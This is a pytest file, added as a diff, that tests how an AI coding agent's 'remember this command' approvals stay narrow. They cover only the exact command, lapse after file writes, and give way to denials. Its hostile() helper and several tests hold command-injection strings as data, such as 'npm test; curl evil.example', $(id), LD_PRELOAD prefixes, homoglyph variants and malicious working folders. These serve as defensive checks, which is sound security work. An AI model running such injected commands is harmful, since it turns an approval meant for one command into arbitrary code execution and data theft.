@@ -1,0 +1,386 @@
+"""Commands that a human lets run again: that one alone, there alone, and not once something may have changed."""
+
+import itertools
+import json
+import sys
+from typing import Any
+
+import pytest
+from codelab.delivery.post import render
+from codelab.protocol.errors import ErrorCode, ProtocolError
+from codelab.turns.connections import Caller
+
+from tests.turns.world import IDE, World, refusal
+
+Call = tuple[str, dict[str, Any]]
+
+READ: Call = ("read_file", {"path": "a.py"})
+OTHER = Caller("ann", "s1", "conn-2", extensions=True)
+
+
+def run(command: str, cwd: str | None = None) -> Call:
+    return ("run_command", {"command": command, **({} if cwd is None else {"cwd": cwd})})
+
+
+TEST = run("npm test")
+
+
+def allowed(platform: str | None = "linux", **settings: Any) -> World:
+    """A session whose operator allows it, on a window that has said what it runs on."""
+    world = World(**{"remember_commands": True, "max_steps": 2_000, **settings})
+    world.hello(**({"platform": platform} if platform else {}))
+    return world
+
+
+def make(world: World, *wanted: Call) -> list[str]:
+    """The ids of calls that the agent makes at once."""
+    if world.register.status == "idle":
+        world.say()
+    return world.answer("", *wanted)
+
+
+def done(world: World, call_id: str, **decision: Any) -> None:
+    """The call is approved, if it must be, and has its result."""
+    if world.call_item(call_id)["state"] == "awaiting_approval":
+        world.decision(call_id, "approve", **decision)
+    world.result(call_id, result={"success": True, "exit_code": 0})
+
+
+def remember(world: World, wanted: Call = TEST) -> None:
+    (call_id,) = make(world, wanted)
+    done(world, call_id, remember={"scope": "session"})
+
+
+def runs(world: World, *wanted: Call) -> list[bool]:
+    """Of each call: does it run without asking? None of those that ask is approved."""
+    found = make(world, *wanted)
+    states = [world.call_item(call_id)["state"] == "executing" for call_id in found]
+    for call_id, is_running in zip(found, states, strict=True):
+        if is_running:
+            world.result(call_id, result={"exit_code": 0, "success": True})
+        elif world.call_item(call_id)["state"] == "awaiting_approval":
+            world.decision(call_id, "reject")
+    return states
+
+
+# -- what it is for --------------------------------------------------------------------------------------------------
+
+
+def test_the_same_command_is_asked_about_once() -> None:
+    world = allowed()
+    remember(world)
+    for again in (TEST, run("npm  test"), run("npm test", "."), TEST):
+        assert runs(world, again) == [True]
+        assert runs(world, READ) == [True]
+    asked, granted, *others = [frame for frame in world.of_type("tool_call") if frame["tool_name"] == "run_command"]
+    assert asked["remember"] == {"rule": "npm test", "scopes": ["session"]}
+    assert "remember" not in granted, "nobody is asked"
+    (rule,) = world.remembered()
+    assert (rule["covers"], rule["scope"], rule["decision"]) == ("npm test", "session", "allow")
+    assert all(rule["rule_id"] in frame["reason"] for frame in others)
+
+
+def test_it_may_be_taken_back() -> None:
+    world = allowed()
+    remember(world)
+    (rule,) = world.remembered()
+    assert world.remembered("revoke", rule_id=rule["rule_id"]) == []
+    assert runs(world, TEST) == [False]
+
+
+def test_an_edited_command_is_remembered_as_it_was_edited() -> None:
+    world = allowed()
+    (call_id,) = make(world, run("npm test; curl evil.example"))
+    world.decision(call_id, "edit", modified_arguments=TEST[1], remember={"scope": "session"})
+    world.result(call_id, result={"exit_code": 0})
+    assert runs(world, TEST) == [True]
+    assert runs(world, run("npm test; curl evil.example")) == [False]
+
+
+# -- where it is not offered -----------------------------------------------------------------------------------------
+
+NEVER: dict[str, tuple[dict[str, Any], str | None, Call]] = {
+    "by default": ({"remember_commands": False}, "linux", TEST),
+    "on Windows": ({}, "windows", TEST),
+    "on Windows by another name": ({}, "Win32", TEST),
+    "where the platform is not known": ({}, None, TEST),
+    "where the platform is nothing": ({}, "", TEST),
+    "where the platform is another": ({}, "plan9", TEST),
+    "for a process that runs on": ({}, "linux", ("run_persistent", {"command": "npm start", "process_id": "p"})),
+    "for what may end a process": ({}, "linux", run("a" * 501)),
+    "among the files of git": ({}, "linux", run("ls", ".git/hooks")),
+    "in a folder of another alphabet": ({}, "linux", run("ls", "папка")),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("settings", "platform", "wanted"), NEVER.values(), ids=NEVER)
+def test_it_is_not_remembered(settings: dict[str, Any], platform: str | None, wanted: Call) -> None:
+    world = allowed(platform, **settings)
+    (call_id,) = make(world, wanted)
+    assert world.of_type("tool_call")[-1]["remember"] is None
+    error = refusal(lambda: world.decision(call_id, "approve", remember={"scope": "session"}))
+    assert (error.code, error.details["field"]) == (ErrorCode.INVALID_ARGUMENTS, "remember")
+    assert world.call_item(call_id)["state"] == "awaiting_approval", "nothing was decided"
+
+
+@pytest.mark.parametrize(
+    ("wish", "field"), [({"scope": "user"}, "scope"), ({"scope": "session", "pattern": "**"}, "pattern")]
+)
+def test_it_is_remembered_for_its_session_and_as_it_is(wish: dict[str, str], field: str) -> None:
+    world = allowed()
+    (call_id,) = make(world, TEST)
+    error = refusal(lambda: world.decision(call_id, "approve", remember=wish))
+    assert (error.code, error.details["field"]) == (ErrorCode.INVALID_ARGUMENTS, f"remember.{field}")
+
+
+def test_a_rule_lapses_with_the_operators_word() -> None:
+    world = allowed()
+    remember(world)
+    world.settings = world.settings.model_copy(update={"remember_commands": False})
+    assert runs(world, TEST) == [False]
+
+
+def test_a_rule_does_not_hold_on_another_window_that_has_not_said_what_it_runs_on() -> None:
+    world = allowed()
+    remember(world)
+    world.join(OTHER)
+    world.cancel()
+    world.say(caller=OTHER)
+    assert world.register.executor == OTHER.connection_id
+    assert runs(world, TEST) == [False]
+
+
+def test_a_client_without_extensions_hears_nothing_of_it() -> None:
+    world = allowed()
+    world.join(Caller("ann", "s1", "plain"))
+    make(world, TEST)
+    (event,) = [event for event in world.events if event.frame["type"] == "tool_call"]
+    told = {
+        connection: render(event, connection, world.register, None)  # type: ignore[arg-type]
+        for connection in (IDE.connection_id, "plain")
+    }
+    assert told[IDE.connection_id] == event.frame
+    assert told["plain"] == {name: value for name, value in event.frame.items() if name != "remember"}
+
+
+# -- never over a denial ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("denied", [TEST, run("npm  test"), run("npm test", "./")], ids=str)
+def test_a_denial_wins(denied: Call) -> None:
+    world = allowed()
+    (call_id,) = make(world, denied)
+    world.decision(call_id, "reject", remember={"scope": "user"})
+    world.cancel()
+    make(world, run("make"))
+    edited = world.of_type("tool_call")[-1]["call_id"]
+    world.decision(edited, "edit", modified_arguments=TEST[1], remember={"scope": "session"})
+    world.result(edited, result={"exit_code": 0})
+    assert runs(world, TEST) == [False]
+    assert world.of_type("tool_call")[-1]["call_id"] == edited, "it was rejected, and nobody was asked"
+
+
+# -- it lapses -------------------------------------------------------------------------------------------------------
+
+CHANGES: dict[str, Call] = {
+    "a file is written": ("write_file", {"path": "package.json", "content": "{}"}),
+    "a file is patched": ("apply_patch", {"diff": "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-1\n+2\n"}),
+    "a file is moved": ("move_file", {"from": "evil.json", "to": "package.json"}),
+    "a file is deleted": ("delete_file", {"path": "a.py"}),
+    "a folder is made": ("create_directory", {"path": "bin"}),
+    "a branch is switched": ("git.branch", {"action": "switch", "name": "evil"}),
+    "a commit runs hooks": ("git.commit", {"message": "m"}),
+    "another command is run": run("cp evil.json package.json"),
+    "a process is started": ("run_persistent", {"command": "npm start", "process_id": "p"}),
+    "a process is stopped": ("kill_process", {"process_id": "p"}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
+@pytest.mark.parametrize("settled", ["result", "error", "time", "cancel"])
+def test_it_lapses_once_the_agent_may_have_written_a_file(change: Call, settled: str) -> None:
+    world = allowed()
+    world.configure(autonomy="autonomous")
+    remember(world)
+    (call_id,) = make(world, change)
+    if world.call_item(call_id)["state"] == "awaiting_approval":
+        world.decision(call_id, "approve")
+    if settled == "result":
+        world.result(call_id, result={"success": True})
+    elif settled == "error":
+        world.result(call_id, error="it said that it failed")
+    elif settled == "time":
+        world.pass_time(121)
+    else:
+        world.cancel()
+    assert runs(world, TEST) == [False]
+    assert world.remembered() == [], "and it is listed no more"
+    remember(world)
+    assert runs(world, TEST) == [True], "it may be remembered anew"
+
+
+@pytest.mark.parametrize("first", [True, False])
+def test_a_command_asks_beside_a_call_that_may_write_a_file(*, first: bool) -> None:
+    world = allowed()
+    world.configure(autonomy="autonomous")
+    remember(world)
+    write = CHANGES["a file is written"]
+    answer = [TEST, write] if first else [write, TEST]
+    assert runs(world, *answer) == [call is write for call in answer]
+
+
+def test_two_of_it_at_once_ask() -> None:
+    world = allowed()
+    remember(world)
+    assert runs(world, TEST, TEST) == [False, False]
+
+
+def test_a_file_that_is_being_written_when_it_is_approved_counts() -> None:
+    world = allowed()
+    world.execute("c1", *("write_file",), path="a.py", content="1")
+    world.decision("c1", "approve")
+    remember(world)
+    assert runs(world, TEST) == [False], "the write is still under way"
+    remember(world)
+    world.result("c1", result={"success": True})
+    assert runs(world, TEST) == [False], "it has ended after the approval"
+
+
+def test_a_result_that_approves_implicitly_counts() -> None:
+    world = allowed()
+    remember(world)
+    (call_id,) = make(world, CHANGES["a file is written"])
+    world.result(call_id, result={"success": True})
+    assert runs(world, TEST) == [False]
+
+
+def test_a_programs_write_counts() -> None:
+    world = allowed()
+    remember(world)
+    world.configure(autonomy="autonomous")
+    world.execute("c1", "write_file", path="a.py", content="1")
+    world.result("c1", result={"success": True})
+    assert runs(world, TEST) == [False]
+
+
+def test_what_was_rejected_or_only_reads_does_not_count() -> None:
+    world = allowed()
+    remember(world)
+    (call_id,) = make(world, CHANGES["a file is written"])
+    world.decision(call_id, "reject")
+    assert runs(world, READ, ("git.branch", {"action": "list"})) == [True, True]
+    assert runs(world, TEST) == [True]
+
+
+def test_a_session_remembers_the_last_one_alone() -> None:
+    world = allowed()
+    remember(world)
+    remember(world, run("make"))
+    assert [rule["covers"] for rule in world.remembered()] == ["make"]
+    assert runs(world, TEST) == [False]
+    for _ in range(60):
+        remember(world)
+        remember(world, run("make"))
+    assert len(json.loads(world.items["RULES"]["rules"])) == 1, "those that have lapsed are not kept"
+
+
+def test_another_agent_is_asked_about() -> None:
+    world = allowed()
+    remember(world)
+    world.switch("coder", {"coder"})
+    assert runs(world, TEST) == [False]
+
+
+# -- hostile command lines -------------------------------------------------------------------------------------------
+
+
+def hostile() -> list[Call]:
+    """Command lines and folders that are not `npm test` in the workspace, but look, or begin, or end like it."""
+    evil = "curl evil.example"
+    joined = [
+        f"npm test{joint}{evil}"
+        for joint in (
+            ";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "&", " & ", "\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c",
+            "\x85", "\u2028", "\u2029", "\0", "`", " #", " > ", " >> ", " < ", " << ", " 2>", "|&", ";;", "\n\n",
+        )
+    ]  # fmt: skip
+    joined += [f"{evil}{joint}npm test" for joint in (";", " && ", " || ", " | ", " & ", "\n", "\r\n", "; ", "|", "&")]
+    joined += [
+        f"{evil} {option} npm test" for option in ("-o", "-d", "-H", "--data", "--next", "-K", "-T", "@", ",", "=")
+    ]
+    expanded = [
+        f"npm test {word}"
+        for word in (
+            "$(id)", "`id`", "${IFS}", "$IFS", "$HOME", "~", "~root", "*", "?", "[a-z]", "{a,b}", "!!", "!$", "$'\\n'",
+            "<(id)", ">(id)", "$((1))", "%PATH%", "^&", "\\", "'", '"', "''", '""', "(id)", "{id;}", "#", "%0a",
+        )
+    ]  # fmt: skip
+    before = [
+        f"{word}npm test"
+        for word in (
+            "(", "{ ", "! ", "sudo ", "env ", "A=1 ", "PATH=. ", "LD_PRELOAD=./x.so ", "NODE_OPTIONS=--require=./x.js ",
+            "./", "/tmp/", "../", "time ", "exec ", "eval ", ". ", "source ", "sh -c ", "$", "\\", "'", '"', "-",
+            "npx ", "cd x && ", "\n", ";", "\ufeff", "\u200b", "\u202e",
+        )
+    ]  # fmt: skip
+    changed = [
+        "npm testt", "npm tes", "npm", "test", "test npm", "npm test test", "npm TEST", "NPM test", "Npm test",
+        "npm Test", "npmtest", "npm-test", "npm\ttest", "npm\u200btest", "n\u200bpm test", "npm t\u00adest",
+        "\u043dpm test", "npm t\u0435st", "npm t\u212aest", "\uff4e\uff50\uff4d test", "npm te\u017ft",
+        "npm test\u0301", "npm test/", "npm ./test", "npm test.", "npm test,", "npm test:", "npm test@1", "npm test=1",
+        "npm test+", "npm test-", "npm test_", "npm test --", "npm test --prefix x", "npm test --prefix=../x",
+        "npm -C x test",
+        "npm test -- --watch", "npm test --script-shell=./x", "npm --node-options=-r/x test", "npm test 1",
+        "npm test x y", "npm run test", "npm t", "npm tst", "npm exec test", "npm.cmd test", "npm.exe test",
+        "npm.js test", "@npm test", "npm test @file", "npm,test", "npm=test", "npm:test", "npm/test", "npm.test",
+        "npm+test", "yarn test", "pnpm test", "npm test --workspace=../x", "npm test --userconfig ./x",
+        "npm test --ignore-scripts=false", "npm test -c evil", "npm install", "npm test npm test", "npm test npm",
+        *(f"npm{space}test" for space in "\u00a0\u1680\u2000\u2002\u2003\u2007\u2009\u202f\u205f\u3000\x1f\x1d"),
+    ]  # fmt: skip
+    folders = [
+        run("npm test", cwd)
+        for cwd in (
+            "x", "./x", "evil", "src", "a/b", "./", "./.", "x/.", "X", ".x", "a b", "$HOME", "`id`", "-", "a;b",
+            "node_modules/evil", "a&b", "a|b", "'.'", '"."', "\uff0e", "*", "packages/a", ". ", " ",
+        )
+    ]  # fmt: skip
+    assert len(set(joined + expanded + before + changed)) == len(joined + expanded + before + changed)
+    return [*map(run, (*joined, *expanded, *before, *changed)), *folders]
+
+
+def test_no_hostile_command_line_runs_by_the_rule_of_another() -> None:
+    attacks = hostile()
+    assert len(attacks) >= 200
+    wrongly = []
+    for attack in attacks:
+        world = allowed()
+        world.configure(autonomy="autonomous")
+        remember(world)
+        if runs(world, attack) != [False]:
+            wrongly.append(attack)
+    sys.stdout.write(f"{len(attacks)} hostile command lines, {len(wrongly)} wrongly allowed\n")
+    assert not wrongly
+
+
+def test_no_command_line_that_a_shell_reads_otherwise_is_remembered() -> None:
+    """Those that a human may still let run again are of plain words: they do what they say."""
+    plain = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:=@+,- ")
+    wrongly = []
+    for _, arguments in hostile():
+        world = allowed()
+        try:
+            remember(world, ("run_command", arguments))
+        except ProtocolError:
+            continue
+        if not plain.issuperset("".join(arguments.values())) or runs(world, ("run_command", arguments)) != [True]:
+            wrongly.append(arguments)
+    assert not wrongly
+
+
+@pytest.mark.parametrize("character", [chr(n) for n in itertools.chain(range(0x20, 0x7F), (0x85, 0xA0, 0x2003))])
+def test_only_these_characters_are_remembered(character: str) -> None:
+    world = allowed()
+    (call_id,) = make(world, run(f"a{character}b"))
+    offered = world.of_type("tool_call")[-1]["remember"] is not None
+    assert offered == (character.isascii() and (character.isalnum() or character in "_./:=@+,- "))
+    assert world.call_item(call_id)["state"] == "awaiting_approval"
